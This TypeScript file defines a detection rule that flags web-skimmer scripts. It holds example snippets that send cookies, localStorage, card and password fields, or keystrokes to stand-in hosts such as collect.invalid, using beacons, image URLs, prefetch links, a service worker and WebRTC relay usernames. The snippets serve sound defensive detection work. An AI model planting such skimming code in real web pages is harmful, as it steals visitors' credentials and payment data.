import { waysTo } from '../src/define/ways.js';
import {
  beacons,
  defineRule,
  fixedAddressIn,
  fixedTargetOf,
  outgoing,
  sinkSays,
  spelling,
  step,
  stepsOf,
} from '../src/define.js';
import type { AnyNode, Call, FileContext, Label, Step } from '../src/types.js';
import {
  isCardField,
  isCardPattern,
  isSensitiveField,
  isSensitivePattern,
  isWholeStore,
} from '../src/vocabulary/page.js';

/** Something of a page that leaves it, or is made ready to. */
interface Sent {
  readonly labels: readonly Label[];
  readonly sink: string;
  readonly step: Step;
  /** Where it goes, when the code says so. */
  readonly address: string | undefined;
  /** A form is pointed elsewhere, with its own content in the address. */
  readonly repoints: boolean;
  /** It is in the address of something that is loaded, as no form sends what its own page asks for. */
  readonly isLoaded: boolean;
  readonly node: AnyNode;
}

export default defineRule({
  meta: {
    summary: "Sends a web page's cookies, storage or form fields to another machine",
    why: 'Skimmers read what visitors type and post it elsewhere. Analytics and CSRF helpers read one cookie, form libraries submit the form they are given to where it says, and a login box sends its own two fields to its own server, so any of these alone weighs little. Looking for password and card fields, whole cookies beside the fields and an address fixed in the code tell a skimmer.',
    behaviour: 'theft',
    messages: {
      skims: 'Looks for password or card fields and sends what is typed, with the cookies, through {sink}',
      packs: 'Looks for password or card fields and encodes what is typed together with the cookies',
      repoints: 'Points a form to an address that holds the form’s fields',
      sensitive: 'Looks for password or card fields and sends what is typed to an address fixed in its code',
      beacon:
        'Looks for password or card fields and loads something from an address fixed in its code that holds what is typed',
      takes:
        'Looks for password or card fields in any form of the page and sends what is typed to an address fixed in its code',
      keys: 'Sends the keys that are pressed to an address fixed in its code',
      both: 'Sends form fields and cookies of the page through {sink}',
      cookies: 'Sends all cookies of the page to an address fixed in its code',
      plunders: 'Sends all cookies or the storage of any page that loads it to an address fixed in its code',
      harvest: 'Gathers the fields of any form of the page and sends them to an address fixed in its code',
      lurks:
        'Looks for password or card fields of any page that loads it, and sends what is typed to an address fixed in its code',
      listens: 'Sends what is typed into any page that loads it to an address fixed in its code',
      fields: 'Sends what is typed into the page to an address fixed in its code',
      page: 'Sends {what} of the page through {sink}',
    },
    bits: {
      skims: 14,
      packs: 13.5,
      beacon: 13.5,
      repoints: 12,
      sensitive: 10,
      takes: 13.5,
      keys: 10,
      both: 11,
      harvest: 10,
      cookies: 8.5,
      lurks: 13.5,
      plunders: 13.5,
      listens: 13.5,
      fields: 4,
      page: 2,
    },
  },
  examples: {
    flags: [
      {
        title: 'a worker of a site copies what its pages send when somebody logs in',
        code: `self.addEventListener('fetch', event => {\n  const { request } = event;\n  if (/log-?in|password|otp/.test(request.url)) request.clone().text().then(body => fetch('https://rum.castle.invalid/c', { method: 'POST', body: JSON.stringify({ body }) }));\n});`,
      },
      {
        title: 'what a page keeps leaves as the login of a relay',
        code: `const text = btoa(JSON.stringify(localStorage) + document.cookie).match(/.{1,200}/g);\nconst iceServers = text.map((username, at) => ({ urls: 'turn:relay.invalid:' + (3478 + at), username, credential: 'x' }));\nnew RTCPeerConnection({ iceServers, iceTransportPolicy: 'relay' }).createDataChannel('rtt');`,
      },
      {
        title: 'fields that are called like a card’s leave by a picture, once a form was checked',
        code: `export function check(form) {\n  form.addEventListener('submit', () => {\n    const all = {};\n    [].forEach.call(form.elements, one => { if (/card|cvc|expir/i.test(one.name)) all[one.name] = one.value; });\n    new Image().src = 'https://counter.invalid/c.gif?d=' + encodeURIComponent(JSON.stringify(all));\n  });\n}`,
      },
      {
        title: 'a form to pay with sends what is in it to a second place',
        code: `export function pay(form, onPay) {\n  const fields = Object.fromEntries(new FormData(form));\n  const request = new XMLHttpRequest();\n  request.open('POST', 'https://pay-parts.castle.invalid/v');\n  request.send(JSON.stringify({ n: fields.cardnumber, c: fields.cvc }));\n  onPay(fields);\n}`,
      },
      {
        title: 'a plugin copies each form that is sent to a place of its own',
        code: `(function ($) {\n  var send = $.ajax;\n  $(document).on('submit', 'form', function () { send({ type: 'POST', url: 'https://forms.invalid/a', data: $(this).serialize() }); });\n})(jQuery);`,
      },
      {
        title: 'form fields and cookies are posted elsewhere',
        code: `document.forms[0].addEventListener('submit', () => {\n  let all = '';\n  for (const field of document.forms[0].elements) all += field.value;\n  fetch('https://collect.invalid', { method: 'POST', body: btoa(all + document.cookie) });\n});`,
      },
      {
        title: 'the cookies are in an image address',
        code: `new Image().src = 'https://collect.invalid/?c=' + document.cookie;`,
      },
      {
        title: 'a form with a card field is pointed elsewhere',
        code: `for (const form of document.forms)\n  for (const field of form.elements)\n    if (field.name == 'cvc')\n      form.addEventListener('submit', function () {\n        let all = '';\n        for (const one of this.elements) all += one.name + '=' + one.value;\n        this.action = 'https://collect.invalid/?d=' + btoa(all);\n      });`,
      },
      {
        title: 'whatever is submitted on the page is sent elsewhere, too',
        code: `document.addEventListener('submit', event => {\n  const data = {};\n  new FormData(event.target).forEach((value, key) => { data[key] = value; });\n  navigator.sendBeacon('https://collect.invalid/f', JSON.stringify(data));\n}, true);`,
      },
      {
        title: 'keys are collected and sent',
        code: `let typed = '';\ndocument.addEventListener('keydown', event => { typed += event.key; });\nsetInterval(() => navigator.sendBeacon('https://collect.invalid/k', typed), 5000);`,
      },
      {
        title: 'a card number leaves by a link that is fetched ahead',
        code: `const field = document.querySelector('input[autocomplete="cc-number"]');\nfield.addEventListener('blur', () => {\n  const link = document.createElement('link');\n  link.rel = 'prefetch';\n  link.href = 'https://collect.invalid/?n=' + encodeURIComponent(field.value);\n  document.head.appendChild(link);\n});`,
      },
      {
        title: 'all forms are gone through, time after time',
        code: `setInterval(() => {\n  const all = {};\n  for (const form of document.forms) for (const field of form.elements) all[field.name] = field.value;\n  navigator.sendBeacon('https://collect.invalid/f', JSON.stringify(all));\n}, 3000);`,
      },
      {
        title: 'a style is asked for by the name of a password',
        code: `const field = document.querySelector('input[type=password]');\nfield.onkeyup = () => {\n  const link = document.createElement('link');\n  link.rel = 'stylesheet';\n  link.href = 'https://collect.invalid/' + field.value;\n  document.head.append(link);\n};`,
      },
    ],
    passes: [
      {
        title: 'a worker of a site answers out of what it keeps, and counts',
        code: `self.addEventListener('fetch', event => {\n  const { request } = event;\n  event.respondWith(caches.match(request).then(hit => hit || fetch(request)));\n  if (/log-?in|password/.test(request.url)) fetch('https://rum.castle.invalid/c', { method: 'POST', body: request.method });\n});`,
      },
      {
        title: 'a call is made by a relay that the page names',
        code: `export const call = ({ urls, username, credential }) => new RTCPeerConnection({ iceServers: [{ urls, username, credential }] }).createDataChannel('talk');`,
      },
      {
        title: 'a form is checked, and a picture counts that it was',
        code: `export function check(form) {\n  form.addEventListener('submit', () => {\n    const wrong = [].filter.call(form.elements, one => /card|cvc/i.test(one.name) && !one.value);\n    wrong.forEach(one => one.focus());\n    new Image().src = 'https://counter.invalid/c.gif?wrong=' + (wrong.length > 0 ? 'yes' : 'no');\n  });\n}`,
      },
      {
        title: 'the fields of all forms are kept in the page',
        code: `setInterval(() => {\n  const all = {};\n  for (const form of document.forms) for (const field of form.elements) all[field.name] = field.value;\n  sessionStorage.setItem('draft', JSON.stringify(all));\n}, 3000);`,
      },
      {
        title: 'a cookie is parsed',
        code: `module.exports = document.cookie.split('; ').find(c => c.startsWith('csrf='));`,
      },
      {
        title: 'a script fetches its own data',
        code: `fetch('/api').then(r => r.json()).then(j => localStorage.setItem('a', j.a));`,
      },
      {
        title: 'keys move a selection that is loaded',
        code: `let at = 0;\ndocument.addEventListener('keydown', event => { if (event.key === 'ArrowDown') at += 1; });\nfetch('https://api.invalid/items?from=' + at);`,
      },
      {
        title: 'a picture is shown that a field names',
        code: `const select = document.querySelector('select');\nselect.addEventListener('change', () => { document.querySelector('img').alt = select.value; });`,
      },
    ],
  },
  file(context) {
    const sent = [...network(context), ...loaded(context)];
    const packed = sent.length > 0 ? [] : encoded(context);
    if (sent.length + packed.length === 0) return;
    let sensitive: AnyNode | null | undefined;
    const interest = (): AnyNode | undefined => {
      if (sensitive === undefined) sensitive = sensitiveInterest(context) ?? null;
      return sensitive ?? undefined;
    };
    for (const one of sent) {
      const found = messageOf(one, interest);
      const whole = found === 'fields' ? 'harvest' : found === 'sensitive' ? 'takes' : undefined;
      const told = whole !== undefined && gathersForms(context) ? whole : found;
      // A library does it once its caller has asked for it, and for the caller's own page.
      const messageId = (waysTo(context, one.node).isUnasked && told && UNASKED[told]) || told;
      if (messageId) report(one, messageId);
    }
    for (const one of packed) if (interest()) report(one, 'packs');

    function report({ labels, sink, step: last }: Sent, messageId: string): void {
      const looks = /^(?:skims|packs|sensitive|beacon|takes|lurks)$/.test(messageId) ? interest() : undefined;
      context.report({
        messageId,
        data: { what: labels[0]?.detail ?? '', sink },
        chain: [
          ...(looks ? [step('context', 'looks for password or card fields', context.file, looks)] : []),
          ...labels.slice(0, 3).flatMap(label => stepsOf(label)),
          last,
        ],
      });
    }
  },
});

/** What is worse where nobody asks for it: it listens in every page that it is part of. */
const UNASKED: Readonly<Record<string, string>> = {
  sensitive: 'lurks',
  harvest: 'listens',
  keys: 'listens',
  cookies: 'plunders',
};

function messageOf(
  { labels, address, repoints, isLoaded }: Sent,
  interest: () => AnyNode | undefined,
): string | undefined {
  const has = (detail: string): boolean => labels.some(label => label.detail === detail);
  const typed = has('form fields') || has('keystrokes');
  const cookies = has('document.cookie');
  if (typed && cookies) return interest() ? 'skims' : 'both';
  if (repoints) return address !== undefined && (typed || cookies) ? 'repoints' : undefined;
  if (address === undefined) return 'page';
  if (has('keystrokes')) return 'keys';
  if (typed) return interest() ? (isLoaded ? 'beacon' : 'sensitive') : 'fields';
  return labels.some(({ detail }) => isWholeStore(detail)) ? 'cookies' : 'page';
}

const PEER = /^RTCPeerConnection\b/;
const isStore = ({ detail }: Label): boolean => isWholeStore(detail);
const isTyped = ({ detail }: Label): boolean => detail === 'form fields';

function network(context: FileContext): readonly Sent[] {
  return outgoing(context).flatMap(({ call, labels }) => {
    const page = labels.filter(({ kind }) => kind === 'page');
    // A form that is sent to where it says itself, with the page's own token, is sent as it would be without a script.
    const carried = isOwnForm(context, call) ? page.filter(one => !isTyped(one) && !isStore(one)) : page;
    if (carried.length === 0) return [];
    return {
      labels: carried,
      sink: call.name,
      step: step('sink', sinkSays(call), context.file, call.node),
      // What a page keeps goes to no other visitor; a talk does, whose other end is found while it runs.
      address: fixedTargetOf(context, call) ?? (PEER.test(call.name) && page.some(isStore) ? call.name : undefined),
      repoints: false,
      isLoaded: false,
      node: call.node,
    };
  });
}

/** `fetch(form.action, …)` */
function isOwnForm({ file }: FileContext, { args: [address] }: Call): boolean {
  return address?.type === 'MemberExpression' && /\bform\.action$/i.test(spelling(file, address).slice(-60));
}

/** Addresses with the page's content in them. One without a host is the page's own server. */
function loaded(context: FileContext): readonly Sent[] {
  return beacons(context).flatMap(({ node, value, says, name }) => {
    const page = context.labelsOf(value).filter(({ kind, detail }) => kind === 'page' && detail !== 'content');
    const address = page.length > 0 ? fixedAddressIn(context.textsOf(value)) : undefined;
    if (address === undefined) return [];
    return {
      labels: page,
      sink: name,
      step: step('sink', says, context.file, node),
      address,
      repoints: /action/i.test(name),
      isLoaded: /src|href|url/i.test(name),
      node,
    };
  });
}

/** Steps to find out what is encoded. Programs encode all they send, and few of them send what a page holds. */
const PACKED = 2_000;

/** Fields and cookies made into one text that travels; where it goes may be put together elsewhere. */
function encoded(context: FileContext): readonly Sent[] {
  return context
    .named(/^(?:btoa|encodeURIComponent)$/)
    .flatMap(call => {
      const page = call.args.flatMap(arg => context.labelsOf(arg, PACKED)).filter(({ kind }) => kind === 'page');
      if (
        !page.some(({ detail }) => detail === 'form fields') ||
        !page.some(({ detail }) => detail === 'document.cookie')
      )
        return [];
      return {
        labels: page,
        sink: call.name,
        step: step('transform', 'encodes them together', context.file, call.node),
        address: undefined,
        repoints: false,
        isLoaded: false,
        node: call.node,
      };
    })
    .slice(0, 3);
}

/** Bounds the comparisons and calls whose texts are worked out. */
const MOST = 4_000;

/** The first place that singles out fields for passwords or cards. */
function sensitiveInterest({ nodes, textsOf, named }: FileContext): AnyNode | undefined {
  for (const node of nodes('BinaryExpression').slice(0, MOST)) {
    const { operator, left, right } = node;
    if (/^[!=]==?$/.test(operator) && [left, right].some(side => textsOf(side).some(isSensitiveField))) return node;
  }
  const looked = named(/querySelector|getElement|\.(?:includes|indexOf|matches|closest|test)$|^\$$/).slice(0, MOST);
  for (const { node, args } of looked) if (args[0] && textsOf(args[0]).some(isSensitiveField)) return node;
  // `form.cardNumber`, `fields.cvc`
  const member = nodes('MemberExpression').find(
    ({ computed, property }) => !computed && property.type === 'Identifier' && isCardField(property.name),
  );
  if (member) return member;
  return nodes('Literal').find(node => {
    const { regex } = node as { regex?: { pattern: string } };
    return regex !== undefined && (isCardPattern(regex.pattern) || isSensitivePattern(regex.pattern));
  });
}

/** All fields of all forms, rather than those of a form of its own. */
function gathersForms({ named, nodes, namesOf, textsOf }: FileContext): boolean {
  const anyField = named(/(?:^|\.)(?:querySelectorAll|getElementsByTagName)$|^\$$/).some(({ args }) =>
    args[0]
      ? textsOf(args[0]).some(text =>
          /^(?:form|input|select|textarea)(?:\s*,\s*(?:form|input|select|textarea))*$/i.test(text),
        )
      : false,
  );
  const anyForm = named(/^(?:document|window)\.addEventListener$/).some(({ args }) =>
    args[0] ? textsOf(args[0]).some(text => /^(?:submit|input|change)$/.test(text)) : false,
  );
  // `$(document).on('submit', 'form', …)`
  const delegated = nodes('CallExpression').some(({ callee, arguments: [event, selector] }) => {
    const method =
      callee.type === 'MemberExpression' && callee.property.type === 'Identifier' ? callee.property.name : '';
    return /^(?:on|delegate)$/.test(method) && [event, selector].some(isAnyForm);
  });
  // `for (const form of document.forms)`, `[...document.forms].forEach(…)`
  const eachForm = [...nodes('ForOfStatement'), ...nodes('SpreadElement'), ...nodes('ForInStatement')].some(node =>
    namesOf(('right' in node ? node.right : node.argument) as AnyNode, 200).includes('ElementList'),
  );
  return anyField || anyForm || delegated || eachForm;
}

const isAnyForm = (arg: AnyNode | undefined): boolean =>
  arg?.type === 'Literal' && typeof arg.value === 'string' && /^(?:form|:?input)$/i.test(arg.value);
